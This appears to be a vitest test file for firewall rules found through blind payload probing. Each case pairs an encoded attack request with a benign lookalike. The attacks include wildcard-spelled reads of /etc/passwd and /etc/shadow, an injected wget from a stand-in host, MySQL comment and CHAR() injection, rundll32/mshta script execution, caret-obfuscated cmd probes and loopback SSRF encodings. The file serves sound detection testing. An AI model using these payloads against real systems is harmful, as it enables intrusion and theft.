/**
 * Bundled rules of rev 2026-12-05t: mechanisms a blind payload probe set (713 requests written before any
 * rule was read, the payload in `?p=` and in a form's `p=`) showed passing the full pipeline. Shell
 * wildcards spelling a system path, a MySQL executable comment, a string spelled as CHAR() codes, rundll32
 * or mshta running script, a value starting with a caret-broken cmd word or with `cmd /c` and a probe,
 * SSRF hosts 9000528 did not spell (an octal dword, `0`, `127.1`) and an SQLite file in the web root.
 * Each fires on its attack and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9000332, 'block', 'all-wildcard directories and files', q('p=%2F%3F%3F%3F%2F%3F%3Ft%20%2F%3F%3F%3F%2Fp%3F%3Fs%3F%3F'), q('p=what%3F%3F+really%3F%3F')],
  [9000332, 'block', 'wildcards inside /etc/passwd after a spliced cat', form('p=c%27%27at+%2Fe%3F%3F%2Fpa%2Awd'), form('p=did+you+check+%2Fetc%2Fhosts%3F')],
  [9000332, 'block', 'a wildcard inside a command under /bin', q('p=%2Fbin%2Fc%3Ft+%2Fetc%2Fshadow'), q('next=%2Fbin%2Fcart%3Fid%3D3')],
  [9000332, 'block', 'a wildcard path in a JSON value', json('{"host":"x;/???/??n/w?get 203.0.113.7/a"}'), json('{"policy":"arn:aws:s3:::bucket/*/*","accept":"*/*"}')],
  [9000193, 'block', 'a versioned MySQL comment', q('p=SELECT%2F%2A%2150000%20name%2A%2FFROM%20users'), q('p=%2F%2A+a+comment+%2A%2F')],
  [9000193, 'block', 'an executable comment holding UNION', form('id=1+%2F%2A%21UNION%2A%2F+%2F%2A%21SELECT%2A%2F+1'), json('{"css":"/*! normalize.css v8.0.1 | MIT License */ /*! Select2 4.0.13 */"}')],
  [9000194, 'block', 'a string as CHAR() codes', q('p=char%2897%2C100%2C109%2C105%2C110%29'), q('q=char%2810%29+line+feed')],
  [9000194, 'block', 'CHR() codes in a form value', form('name=x%27%7C%7CCHR(65%2C66%2C67)%7C%7C%27'), form('note=the+chart+%2897%2C+100%29')],
  [9000333, 'block', 'rundll32 running javascript through mshtml', q('p=%26%20rundll32.exe%20javascript%3A%22%5C..%5Cmshtml%2CRunHTMLApplication%22'), q('q=rundll32.exe+high+cpu')],
  [9000333, 'block', 'mshta running vbscript', form('host=a%26mshta+vbscript%3AExecute(%22CreateObject(%22%22WScript.Shell%22%22).Run%22)'), form('q=what+is+mshta.exe')],
  [9000540, 'block', 'the host 0 in a form value (9000528 rev 3, now 9000540)', form('p=http%3A%2F%2F0%2F'), form('p=http%3A%2F%2F0%3A8000%2F')],
  [9000528, 'block', 'loopback as an octal dword', form('p=http%3A%2F%2F017700000001%2F'), form('p=http%3A%2F%2F10.0.4.22%2F')],
  [9000540, 'block', 'loopback as 127.1 (9000528 rev 3, now 9000540)', json('{"u":"http://127.1/admin"}'), json('{"u":"http://127.10.0.1:3000/x"}')],
  [9000334, 'block', 'a value that is a caret-broken whoami', q('p=%5Ew%5Eh%5Eo%5Ea%5Em%5Ei'), q('q=x%5E2%2By%5E2&v=%5E1.2.3')],
  [9000334, 'block', 'a caret-broken cmd starting a form value', form('p=c%5Em%5Ed+%2Fc+who%5Eami'), form('formula=a%5Eb%5Ec&regex=%5Eset')],
  [9000334, 'block', 'a caret-broken ping starting a JSON value', json('{"host":"p^ing -n 3 203.0.113.7"}'), json('{"pattern":"^ping","exp":"2^10"}')],
  [9000335, 'block', 'cmd /c running a quoted probe', q('p=cmd%20%2Fc%20%22ver%22'), q('q=cmd+%2Fc+build.bat')],
  [9000335, 'block', 'cmd.exe /k running whoami in a form', form('p=cmd.exe+%2Fk+whoami'), form('note=run+cmd+%2Fc+whoami+to+check')],
  [9001406, 'block', 'an SQLite database in the web root', { url: '/db.sqlite3' }, { url: '/static/geo.sqlite' }],
];

describe('bundled rules from blind payload probes (rev 2026-12-05t)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
